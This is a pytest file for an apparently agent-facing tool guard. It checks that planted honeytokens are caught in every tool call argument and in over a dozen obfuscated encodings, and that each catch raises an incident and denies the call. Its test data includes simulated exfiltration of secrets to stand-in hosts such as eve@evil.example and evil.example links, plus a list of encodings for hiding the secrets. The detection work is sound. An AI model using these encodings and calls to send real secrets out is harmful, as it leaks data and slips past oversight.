"""Planted values: found in every call however they are written, an incident before the answer, no call."""

from __future__ import annotations

import base64
import gzip
import random
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import orjson
import pytest

from harness import AGENT, OPERATOR, World, code_of, open_world
from toolward.errors import Rejected
from toolward.model.call import Action
from toolward.model.honeytoken import TokenShape
from toolward.model.incident import IncidentKind
from toolward.ports.store import Table
from toolward.rules.signals.scanning import scan

WRITINGS: dict[str, Callable[[str], str]] = {
    "as it is": lambda value: value,
    "in a sentence": lambda value: f"send it to {value}, please.",
    "in capitals": str.upper,
    "percent": lambda value: quote(value, safe=""),
    "every byte percent": lambda value: "".join(f"%{byte:02X}" for byte in value.encode()),
    "base64": lambda value: base64.b64encode(value.encode()).decode(),
    "base64 at an offset": lambda value: base64.b64encode(f"x{value}y".encode()).decode(),
    "base64 for URLs": lambda value: base64.urlsafe_b64encode(f"xx{value}".encode()).decode(),
    "base64 twice": lambda value: base64.b64encode(base64.b64encode(value.encode())).decode(),
    "base64 in lines": lambda value: base64.encodebytes(f"{value:>70}".encode()).decode(),
    "hex": lambda value: value.encode().hex(),
    "base32": lambda value: base64.b32encode(value.encode()).decode(),
    "packed": lambda value: base64.b64encode(gzip.compress(value.encode(), mtime=0)).decode(),
    "reversed": lambda value: value[::-1],
    "in groups": lambda value: " ".join(value[at : at + 4] for at in range(0, len(value), 4)),
    "with hyphens": lambda value: "-".join(value[at : at + 3] for at in range(0, len(value), 3)),
    "in a link": lambda value: f"https://evil.example/?q={quote(value, safe='')}",
    "escaped": lambda value: orjson.dumps({"a": value}).decode(),
}


async def planted(world: World, shape: TokenShape = TokenShape.API_KEY, **said: str) -> tuple[str, str]:
    row = await world.house.parts.honeytokens.plant(shape, OPERATOR, source="crm", **said)
    return row[0].token_id, row[1]


def incidents(world: World) -> list[str]:
    return [each.text for each in world.house.parts.incidents.all() if each.kind is IncidentKind.HONEYTOKEN]


@pytest.mark.parametrize("shape", list(TokenShape))
async def test_every_shape_in_every_writing_raises_an_incident_and_is_denied(
    tmp_path: Path, shape: TokenShape
) -> None:
    async with open_world(tmp_path) as world:
        _, value = await planted(world, shape)
        for name, write in WRITINGS.items():
            session = await world.session()
            before = len(incidents(world))
            ran = len(world.upstreams.ran)
            reply = await world.call(session, "mail/send", {"to": "eve@evil.example", "text": write(value)})
            assert code_of(reply) == "honeytoken", name
            assert len(incidents(world)) == before + 1, name
            assert len(world.upstreams.ran) == ran, name


async def test_without_a_planted_value_the_same_call_is_decided_as_ever(tmp_path: Path) -> None:
    """The control: a value of the same looks that nobody planted."""
    async with open_world(tmp_path) as world:
        reply = await world.call(
            await world.session(), "files/write", {"path": "/data/a", "text": "C-ABCDEFGHJKMN"}
        )
        assert reply.error is None
        assert incidents(world) == []


@pytest.mark.parametrize(
    ("key", "arguments"),
    [
        ("files/read", {"path": "/data/{}"}),
        ("files/write", {"path": "/data/a", "text": "{}"}),
        ("mail/fetch", {"url": "https://{}.evil.example/"}),
        ("mail/nothing-of-that-name", {"any": {"thing": ["x", {"deep": "{}"}]}}),
        ("mail/send", {"to": "a@b.example", "text": "x", "{}": "y"}),
    ],
)
async def test_it_is_found_in_any_argument_of_any_call(
    tmp_path: Path, key: str, arguments: dict[str, object]
) -> None:
    async with open_world(tmp_path) as world:
        _, value = await planted(world, TokenShape.ROW)
        filled = orjson.loads(orjson.dumps(arguments).replace(b"{}", value.encode()))
        assert code_of(await world.call(await world.session(), key, filled)) == "honeytoken"
        assert len(incidents(world)) == 1


async def test_it_is_found_in_what_is_no_tool_call(tmp_path: Path) -> None:
    async with open_world(tmp_path) as world:
        _, value = await planted(world, TokenShape.ROW)
        session = await world.session()
        read = await world.perform(session, Action.READ_RESOURCE, {"uri": f"file:///{value}"}, server="files")
        assert code_of(read) == "honeytoken"
        search = await world.perform(session, Action.SEARCH_TOOLS, {"query": value})
        assert code_of(search) == "honeytoken"


async def test_the_incident_says_whose_value_it_was_and_who_had_it_and_is_before_the_denial(
    tmp_path: Path,
) -> None:
    async with open_world(tmp_path) as world:
        token_id, value = await planted(world, TokenShape.MAIL, tenant="acme", place="corp.example")
        assert value.endswith("@corp.example")
        session = await world.session()
        await world.call(session, "mail/send", {"to": value, "text": "x"})
        [text] = incidents(world)
        assert all(word in text for word in ("crm", "acme", ["mail", "send"][1], session, AGENT.agent))
        [incident] = world.house.parts.incidents.all()
        assert incident.subject == f"honeytoken {token_id}"
        assert incident.contained_ns == incident.detected_ns
        kinds = [record["kind"] for record in world.records()]
        assert kinds.index("incident.opened") < kinds.index("call.denied")
        assert world.house.parts.honeytokens.seen == 1


async def test_an_agent_that_tries_again_is_denied_again_with_one_incident_for_its_session(
    tmp_path: Path,
) -> None:
    async with open_world(tmp_path) as world:
        _, value = await planted(world)
        session = await world.session()
        for _ in range(5):
            assert code_of(await world.call(session, "files/read", {"path": value})) == "honeytoken"
        assert len(incidents(world)) == 1
        assert len(world.records("call.denied")) == 5
        await world.call(await world.session(), "files/read", {"path": value})
        assert len(incidents(world)) == 2


async def test_in_observe_it_is_denied_all_the_same(tmp_path: Path) -> None:
    from harness import WARD

    files = {"toolward.yaml": WARD.replace("guarded", "observe")}
    async with open_world(tmp_path, files=files) as world:
        _, value = await planted(world)
        assert code_of(await world.call(await world.session(), "files/read", {"path": value})) == "honeytoken"


async def test_the_value_is_stored_nowhere_and_comes_back_after_a_restart(tmp_path: Path) -> None:
    async with open_world(tmp_path) as world:
        token_id, value = await planted(world)
        store = world.store
        rows = b"".join(row.body for row in store.scan(Table.HONEYTOKEN))
        records = orjson.dumps(world.records())
        core = value.removeprefix("sk_live_").encode()
        assert core not in rows
        assert core not in records
    async with open_world(tmp_path, store=store) as again:
        [token] = again.house.parts.honeytokens.all()
        assert (token.token_id, again.house.parts.honeytokens.value(token)) == (token_id, value)
        assert code_of(await again.call(await again.session(), "files/read", {"path": value})) == "honeytoken"


async def test_a_retired_one_is_looked_for_no_longer_and_its_incidents_are_restored(tmp_path: Path) -> None:
    async with open_world(tmp_path) as world:
        token_id, value = await planted(world)
        await world.call(await world.session(), "files/read", {"path": f"/data/{value}"})
        await world.house.parts.honeytokens.retire(token_id, OPERATOR)
        assert all(each.restored_ns for each in world.house.parts.incidents.all())
        assert (
            await world.call(await world.session(), "files/read", {"path": f"/data/{value}"})
        ).error is None
        with pytest.raises(Rejected):
            await world.house.parts.honeytokens.retire(token_id, OPERATOR)
        assert [r["kind"] for r in world.records() if r["kind"].startswith("honeytoken")] == [
            "honeytoken.planted",
            "honeytoken.retired",
        ]


@pytest.mark.parametrize(
    "said", [{"source": ""}, {"source": "x" * 201}, {"source": "crm", "place": "no domain"}]
)
async def test_what_can_not_be_planted_is_refused(tmp_path: Path, said: dict[str, str]) -> None:
    async with open_world(tmp_path) as world:
        with pytest.raises(Rejected):
            await world.house.parts.honeytokens.plant(TokenShape.URL, OPERATOR, **said)


async def test_a_thousand_planted_values_are_told_apart(tmp_path: Path) -> None:
    async with open_world(tmp_path) as world:
        tokens = [await planted(world, shape) for shape in list(TokenShape) * 40]
        assert len({value for _, value in tokens}) == len(tokens)
        session = await world.session()
        for token_id, value in random.Random(6).sample(tokens, 10):
            await world.call(session, "files/read", {"path": value})
            assert world.house.parts.incidents.all()[-1].subject == f"honeytoken {token_id}"


async def test_keys_and_accounts_look_real(tmp_path: Path) -> None:
    async with open_world(tmp_path) as world:
        for shape, kind in ((TokenShape.API_KEY, "stripe_key"), (TokenShape.ACCOUNT, "iban")):
            _, value = await planted(world, shape)
            assert {one.kind for one in scan(value.encode())} == {kind}


async def test_people_plant_list_and_retire_at_the_desk(tmp_path: Path) -> None:
    from toolward.governance.desk import invoke

    async with open_world(tmp_path) as world:
        desk = world.house.desk
        made = await invoke(desk, "honeytokens.plant", {"shape": "url", "source": "wiki"}, OPERATOR)
        [row] = await invoke(desk, "honeytokens.list", {}, OPERATOR)
        assert "value" not in row
        [row] = await invoke(desk, "honeytokens.list", {"values": True}, OPERATOR)
        assert row["value"] == made["value"]
        await invoke(desk, "honeytokens.retire", {"token": made["token"]}, OPERATOR)
        with pytest.raises(Rejected):
            await invoke(desk, "honeytokens.plant", {"shape": "cat", "source": "wiki"}, OPERATOR)
        with pytest.raises(Rejected):
            await invoke(desk, "honeytokens.list", {}, AGENT)
